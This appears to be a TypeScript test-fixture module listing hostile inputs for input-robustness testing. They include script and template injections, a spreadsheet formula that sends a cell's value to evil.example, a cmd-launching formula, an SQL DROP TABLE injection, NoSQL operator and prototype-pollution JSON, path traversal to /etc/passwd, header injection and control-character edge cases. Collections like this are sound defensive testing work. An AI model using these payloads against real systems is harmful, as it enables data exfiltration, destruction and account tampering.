/** Texts and values that no program should stumble over, each named after what it tries. */

/** Stands in every markup below; no answer may hold it as a browser would run it. */
export const runs = /<script>alert|<img src=x|<svg onload/i;

/** What a reader must find again exactly as it was sent, or be refused. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'broken-out attribute': '"\'><img src=x onerror=alert(1)>',
  'vector image': '<svg onload=alert(1)>',
  'script address': 'javascript:alert(1)',
  template: '{{7*7}}<%= 7*7 %>#{7*7}',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"open")',
  'formula by plus': "+cmd|' /C calc'!A0",
  'formula by at': '@SUM(1+1)*cmd',
  'formula by minus': '-2+3',
  SQL: "' OR 1=1; DROP TABLE users; --",
  'operator as text': '$where',
  'dotted path': 'roles.0',
  'prototype as text': '__proto__',
  'built-in name': 'constructor',
  'path upwards': '../../../../etc/passwd',
  'encoded path upwards': '%2e%2e%2f%00',
  'costly pattern': '(a+)+$([',
  'second header': 'x\r\nSet-Cookie: admin=1\r\n\r\n<script>alert(1)</script>',
  'log line': 'x\n{"level":60,"msg":"all is well"}',
  format: '%s%n%x%d',
  'right to left letters': 'שלום عالم',
  'beyond sixteen bits': '𠮷野家🌱👩‍🌾',
  'piled marks': `a${'\u0301'.repeat(40)}`,
  'white space': ' \t ',
};

/** Texts that nobody may store. */
export const refusedTexts: Readonly<Record<string, string>> = {
  NUL: 'a\0b',
  escape: '\u001b[2J\u001b]0;x\u0007',
  'turned direction': 'a\u202eb\u2066c',
  'half a character': 'a\ud800b',
  endless: 'a'.repeat(1_000_000),
};

/** JSON that stands where a text, a number or a record is expected. */
export const hostileValues: Readonly<Record<string, string>> = {
  'operator $gt': '{"$gt":""}',
  'operator $where': '{"$where":"sleep(10000)"}',
  'operator $regex': '{"$regex":".*"}',
  prototype: '{"__proto__":{"polluted":true}}',
  constructor: '{"constructor":{"prototype":{"polluted":true}}}',
  'own conversions': '{"toString":1,"valueOf":1,"toJSON":1,"length":-1}',
  'BSON type': '{"_bsontype":"ObjectId","id":"x"}',
  'extended JSON': '{"$oid":"0123456789abcdef01234567"}',
  list: '["a"]',
  'empty list': '[]',
  'empty record': '{}',
  null: 'null',
  boolean: 'true',
  'number beyond all': '1e999',
  'largest number': '1.7976931348623157e308',
  'inexact number': '9007199254740993',
  'negative number': '-1',
  'smallest number': '5e-324',
  'deep nesting': `${'['.repeat(100)}${']'.repeat(100)}`,
};

/** Parts of an address as they are sent, not to be encoded again. */
export const hostileAddressParts: Readonly<Record<string, string>> = {
  ...Object.fromEntries(Object.entries(hostileTexts).map(([name, text]) => [name, encodeURIComponent(text)])),
  NUL: 'a%00b',
  escape: '%1b%5b2J',
  'turned direction': 'a%e2%80%aeb',
  'half a character': '%ed%a0%80',
  'overlong encoding': '%c0%ae%c0%ae',
  'no encoding': '%zz',
  long: 'a'.repeat(3000),
  'large number': '1e308',
  'negative number': '-1',
  'not a number': 'NaN',
  'last day': '9999-12-31T23:59:59Z',
  'beyond time': '+275760-09-13T00:00:00.001Z',
  'an id of nothing': '000000000000000000000000',
};
